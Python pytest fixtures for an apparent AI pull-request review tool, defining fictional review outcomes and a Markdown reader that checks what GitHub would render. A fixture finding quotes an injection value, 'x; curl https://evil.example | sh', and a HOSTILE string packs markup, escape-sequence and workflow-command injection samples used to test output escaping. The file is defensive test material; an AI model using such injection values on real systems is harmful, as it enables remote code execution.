"""Made-up runs, and a reader of Markdown that sees what GitHub's filters would see."""

import re
from collections.abc import Callable
from dataclasses import dataclass, field
from types import SimpleNamespace

import pytest
from markdown_it import MarkdownIt

from pr_review.domain.change import PullRequest
from pr_review.domain.chat import Usage
from pr_review.domain.finding import Category, Confidence, Excerpt, Finding, Review, Severity, Side
from pr_review.domain.run import (
    Conclusion,
    Coverage,
    CoverageStatus,
    ErrorRecord,
    FileCoverage,
    Outcome,
    ProtocolAction,
    RequestStats,
    TraceCall,
    TraceTurn,
    Turn,
    TurnCall,
)
from pr_review.errors import TerminationReason

# Written apart from the code under test: what GitHub finds in text outside code.
GITHUB_REFERENCES = re.compile(
    r"https?://|ftp://|www\.|@[A-Za-z0-9]|#[0-9]|\bGH-[0-9]|\b[0-9a-f]{7,40}\b|:[a-z0-9_+-]+:|\$",
    re.IGNORECASE,
)


@dataclass
class Rendered:
    """What a browser shows: all text, the text outside code, and what a model must never make."""

    text: str = ""
    prose: list[str] = field(default_factory=list)
    code: list[str] = field(default_factory=list)
    links: list[str] = field(default_factory=list)
    images: int = 0
    raw_html: list[str] = field(default_factory=list)
    blocks: list[str] = field(default_factory=list)

    @property
    def references(self) -> list[str]:
        return [match[0] for text in self.prose for match in GITHUB_REFERENCES.finditer(text)]


def _gfm() -> MarkdownIt:
    md = MarkdownIt("gfm-like", {"html": True})
    md.linkify.set({"fuzzy_link": False, "fuzzy_email": True})  # GitHub leaves bare domains alone
    md.linkify.add("//", None)
    return md


_GFM = _gfm()


def read(markdown: str) -> Rendered:
    """Parse as GitHub-flavoured Markdown with HTML and autolinks on, and collect what is shown."""
    seen = Rendered()
    for token in _GFM.parse(markdown):
        if token.type.endswith("_open"):
            seen.blocks.append(token.tag)
        if token.type == "html_block":
            seen.raw_html.append(token.content)
        if token.type in {"fence", "code_block"}:
            seen.blocks.append(token.type)
            seen.code.append(token.content)
            seen.text += token.content
        _read_inline(token.children or [], seen)
    return seen


def _read_inline(children: list, seen: Rendered) -> None:
    prose, in_link = "", False
    for child in children:
        if child.type == "text":
            prose += child.content
            seen.text += child.content
        elif child.type == "code_inline":
            seen.code.append(child.content)
            seen.text += child.content
        elif child.type == "html_inline":
            seen.raw_html.append(child.content)
        elif child.type == "link_open":
            seen.links.append(child.attrs["href"])
        elif child.type == "image":
            seen.images += 1
        elif child.type in {"softbreak", "hardbreak"}:
            seen.text += "\n"
        elif child.nesting >= 0:
            seen.blocks.append(child.tag)
        if child.type != "text":  # the filters read one text node at a time, and none inside a link
            seen.prose.extend([] if in_link else [prose])
            prose = ""
        in_link = child.type == "link_open" or (in_link and child.type != "link_close")
    seen.prose.append(prose)


@pytest.fixture(scope="session", name="read")
def _read() -> Callable[[str], Rendered]:
    """``read(markdown)`` is what GitHub would show."""
    return read


PULL_REQUEST = PullRequest(
    url="https://github.com/octo/shop/pull/12",
    owner="octo",
    repository="shop",
    number=12,
    title="Retry failed payments, once | twice",
    body="Payments time out.",
    author="octocat",
    base_ref="main",
    head_ref="retry",
    base_sha="c" * 40,
    head_sha="a" * 40,
)
SHELL = Finding(
    severity=Severity.CRITICAL,
    category=Category.SECURITY,
    confidence=Confidence.HIGH,
    title="User input reaches the shell in `export_invoice`",
    explanation=(
        "`name` comes from the request and is put into a command line that `/bin/sh` reads. A customer who "
        "is called `x; curl https://evil.example | sh` runs code on the server.\n\n"
        "The old code passed a list, so this pull request introduces it."
    ),
    path="src/shop/invoice.py",
    line=41,
    end_line=42,
    evidence='Line 41 builds the command:\n```python\nsubprocess.run(f"lp {name}", shell=True)\n```',
    recommendation="Pass a list and leave `shell` out.",
    existing_code='subprocess.run(f"lp {name}", shell=True)',
    suggestion='subprocess.run(["lp", "--", name], check=True)',
    in_diff=True,
    on_added_line=True,
    excerpt=Excerpt(
        start_line=39,
        lines=(
            "def export_invoice(request: Request) -> Response:",
            '    name = request.args["name"]',
            "    # print it",
            '    subprocess.run(f"lp {name}", shell=True)',
            "",
            "",
        ),
    ),
)
RETRY = Finding(
    severity=Severity.HIGH,
    category=Category.ERROR_HANDLING,
    confidence=Confidence.MEDIUM,
    title="A second attempt charges again because no idempotency key is sent with each of the List<Payment>",
    explanation=(
        "When the first request times out after the bank has booked it, `retry()` sends it once more. "
        "There is no key by which the bank could tell both apart.\n"
        "1. the bank books\n2. the answer is lost\n3. the bank books again"
    ),
    path="src/shop/payments/retry.py",
    line=17,
    evidence="`for attempt in range(2): client.post(url, json=payment)`",
    recommendation="Create the key outside the loop and send it:\n\n```python\nkey = str(uuid4())\n```",
    suggestion='headers = {"Idempotency-Key": key}',
    in_diff=True,
    on_added_line=True,
    excerpt=Excerpt(start_line=16, lines=("for attempt in range(2):", "    client.post(url, json=payment)")),
)
REMOVED = Finding(
    severity=Severity.MEDIUM,
    category=Category.DATA,
    title="The check for negative amounts was removed",
    explanation="Nothing else refuses `amount < 0`; a refund can now be sent as a payment.",
    path="src/shop/payments/models.py",
    line=88,
    side=Side.LEFT,
    evidence="if amount < 0:\n    raise ValueError(amount)",
    recommendation="Keep it.",
    in_diff=True,
)
README = Finding(
    severity=Severity.LOW,
    category=Category.DOCS,
    title="The README still names the old option",
    explanation="`--retries` is `--attempts` now.",
    path="docs/READ ME.md",
    line=None,
    evidence="`shop --retries 3`",
    recommendation="Rename it.",
    in_diff=True,
)
OUTSIDE = Finding(
    severity=Severity.HIGH,
    category=Category.CONCURRENCY,
    title="`Ledger.add` is not locked, and the new retry thread calls it",
    explanation="Two threads may read the same balance.",
    path="src/shop/ledger.py",
    line=120,
    evidence="`self.balance = self.balance + amount`",
    recommendation="Take `self._lock`.",
)
HOSTILE = (
    "<img src=x> ![i](https://e.example/i) [t](https://e.example) @octocat #12 $x$ :tada: | \x1b[31m\u202e "
    "::error::x ##[error]x `a|b`"
)
HOSTILE_FINDING = Finding(
    severity=Severity.LOW,
    title=HOSTILE,
    explanation=HOSTILE + "\n# heading\n- list\n> [!NOTE]\n```mermaid\ngraph LR\n```\n</details>",
    path="a)](x|y\n<b>@octocat.py",
    line=1,
    evidence=HOSTILE + "\n\n    indented\n</details>\n\n<summary>",
    recommendation=HOSTILE,
    existing_code="</details>\n```\n" + HOSTILE,
    suggestion="```\n" + HOSTILE,
    rule=HOSTILE,
    in_diff=True,
    excerpt=Excerpt(start_line=1, lines=("```", HOSTILE, "</details>")),
)


def file(
    path: str, status: CoverageStatus = CoverageStatus.REVIEWED, reason: str | None = None, *checks: str
):
    return FileCoverage(path=path, status=status, reason=reason, checks=checks, additions=12, deletions=3)


FILES = (
    file("src/shop/invoice.py"),
    file("src/shop/payments/retry.py"),
    file("src/shop/payments/models.py"),
    file("docs/READ ME.md"),
    file("package-lock.json", CoverageStatus.EXCLUDED, "lock file"),
)
USAGE = Usage(prompt_tokens=41_000, completion_tokens=4_210, total_tokens=45_210)
TURNS = (
    Turn(
        conversation="find-1",
        round=1,
        finish_reason="tool_calls",
        protocol_action=ProtocolAction.EXECUTE_TOOLS,
        usage=USAGE,
        tool_calls=(
            TurnCall(name="read_repository_file", ok=True, result_bytes=2048, truncated=False, duration_ms=3),
            TurnCall(name="search_repository", ok=False, result_bytes=90, truncated=False, duration_ms=12),
        ),
        duration_ms=8_200,
    ),
    Turn(
        conversation="find-1",
        round=2,
        finish_reason="stop",
        protocol_action=ProtocolAction.REPAIR,
        usage=None,
        duration_ms=4_100,
        error="invalid_model_response",
    ),
    Turn(
        conversation="find-1",
        round=3,
        finish_reason="stop",
        protocol_action=ProtocolAction.RETURN_REVIEW,
        usage=None,
        duration_ms=9_000,
    ),
)
TRACE = (
    TraceTurn(
        conversation="find-1",
        round=1,
        provider_request_id="chatcmpl-1",
        provider_model="deepseek-v4-flash",
        finish_reason="tool_calls",
        protocol_action=ProtocolAction.EXECUTE_TOOLS,
        usage=USAGE,
        tool_calls=(
            TraceCall(
                id="call_1",
                name="read_repository_file",
                arguments={"path": "src/shop/invoice.py", "start_line": 1},
                ok=True,
                result_preview='{"ok":true}',
                result_bytes=2048,
                truncated=False,
                duration_ms=3,
            ),
        ),
    ),
)
MODEL_RUN = {
    "exit_code": 0,
    "provider": "chat-completions",
    "pull_request": PULL_REQUEST,
    "merge_base_sha": "b" * 40,
    "model": "deepseek-v4-flash",
    "request_id": "chatcmpl-3",
    "termination_reason": TerminationReason.FINAL_REVIEW,
    "coverage": Coverage(files=FILES),
    "turns": TURNS,
    "usage": USAGE,
    "requests": RequestStats(requests=4, retries=1, waited_seconds=2.0),
    "prompt_version": "3f2a9c1b",
    "duration_ms": 48_200,
}
SUMMARY = (
    "The change retries failed payments. The retry itself works, but it can charge a customer twice, and the "
    "new export builds a shell command from user input."
)
RICH = Outcome(
    conclusion=Conclusion.FINDINGS,
    review=Review(
        summary=SUMMARY,
        findings=(README, OUTSIDE, RETRY, SHELL, REMOVED),
        notes=(
            "Whether `client.post` already retries is not visible in this repository.",
            "Moved from the findings, since `src/gone.py` is in neither tree:\n- unused import\n- typo",
        ),
    ),
    trace=TRACE,
    notes=("GitHub's API could not be reached; the pull request was read from the event payload.",),
    **(
        MODEL_RUN
        | {
            "requests": RequestStats(
                requests=4,
                retries=1,
                waited_seconds=2.0,
                events=("Sent once more without `seed`, which the server refused.",),
            )
        }
    ),
)
CLEAN = Outcome(conclusion=Conclusion.CLEAN, review=Review(summary="Renames a variable."), **MODEL_RUN)
MANY = Outcome(
    conclusion=Conclusion.FINDINGS,
    review=Review(
        summary=SUMMARY,
        findings=tuple(
            [RETRY, SHELL, REMOVED, README, OUTSIDE][n % 5].model_copy(update={"line": n + 1})
            for n in range(100)
        ),
    ),
    **MODEL_RUN,
)
HOSTILE_RUN = Outcome(
    conclusion=Conclusion.FINDINGS,
    review=Review(
        summary=HOSTILE_FINDING.explanation, findings=(HOSTILE_FINDING,), notes=(HOSTILE_FINDING.evidence,)
    ),
    notes=(HOSTILE,),
    **(
        MODEL_RUN
        | {
            "model": HOSTILE,
            "prompt_version": HOSTILE,
            "pull_request": PULL_REQUEST.model_copy(update={"title": HOSTILE, "author": HOSTILE}),
            "coverage": Coverage(files=(file(HOSTILE_FINDING.path, CoverageStatus.EXCLUDED, HOSTILE),)),
        }
    ),
)
CHECKS = ("conflict-markers", "secrets", "ruff", "left-overs", "tls")
OFFLINE = MODEL_RUN | {
    "provider": "offline",
    "model": "offline-rules",
    "usage": None,
    "requests": RequestStats(),
    "turns": (TURNS[0], TURNS[2].model_copy(update={"round": 2})),
    "coverage": Coverage(
        files=tuple(
            item.model_copy(update={"checks": CHECKS}) if item.reason is None else item for item in FILES
        )
    ),
    "duration_ms": 860,
}
RULES_ONLY = Outcome(
    conclusion=Conclusion.RULES_ONLY, review=Review(summary="No rule matched an added line."), **OFFLINE
)
RULES_FOUND = Outcome(
    conclusion=Conclusion.FINDINGS,
    review=Review(summary="1 rule matched.", findings=(SHELL.model_copy(update={"rule": "S602"}),)),
    **OFFLINE,
)
INCOMPLETE = Outcome(
    conclusion=Conclusion.INCOMPLETE,
    review=Review(summary="", findings=(RETRY,)),
    error=ErrorRecord(
        code="max_rounds",
        detail="The model did not finish within 8 rounds.",
        termination_reason=TerminationReason.MAX_ROUNDS,
    ),
    **(
        MODEL_RUN
        | {
            "termination_reason": TerminationReason.MAX_ROUNDS,
            "coverage": Coverage(
                files=(
                    *FILES,
                    file(
                        "src/shop/big.py",
                        CoverageStatus.NOT_REVIEWED,
                        "900 of 900 changed lines were never shown to the reviewer",
                    ),
                )
            ),
        }
    ),
)
SKIPPED = Outcome(
    conclusion=Conclusion.SKIPPED,
    exit_code=0,
    provider="chat-completions",
    pull_request=PULL_REQUEST,
    merge_base_sha="b" * 40,
    coverage=Coverage(
        files=(
            file("package-lock.json", CoverageStatus.EXCLUDED, "lock file"),
            file("vendor/jquery.min.js", CoverageStatus.EXCLUDED, "vendored"),
            file("assets/logo.png", CoverageStatus.EXCLUDED, "binary"),
        )
    ),
    duration_ms=310,
)
FAILED = Outcome(
    conclusion=Conclusion.FAILED,
    exit_code=3,
    provider="chat-completions",
    pull_request=PULL_REQUEST,
    merge_base_sha="b" * 40,
    error=ErrorRecord(
        code="opencode_authentication_failed",
        detail="The provider refused the API key (HTTP 401).",
        advice="Check the secret behind api-key; it is sent in the Authorization header only.",
    ),
    coverage=Coverage(
        files=tuple(file(item.path, CoverageStatus.NOT_REVIEWED, "the review failed") for item in FILES)
    ),
    requests=RequestStats(requests=1),
    duration_ms=900,
)
CRASHED = Outcome(
    conclusion=Conclusion.FAILED,
    exit_code=2,
    provider="chat-completions",
    error=ErrorRecord(
        code="event_missing", detail="There is no event payload.", advice="Run inside GitHub Actions."
    ),
)
OUTCOMES = SimpleNamespace(
    rich=RICH,
    clean=CLEAN,
    many=MANY,
    hostile=HOSTILE_RUN,
    rules_only=RULES_ONLY,
    rules_found=RULES_FOUND,
    incomplete=INCOMPLETE,
    skipped=SKIPPED,
    failed=FAILED,
    crashed=CRASHED,
)


@pytest.fixture(scope="session")
def outcomes() -> SimpleNamespace:
    """Each conclusion once, and what is long, hostile or missing."""
    return OUTCOMES
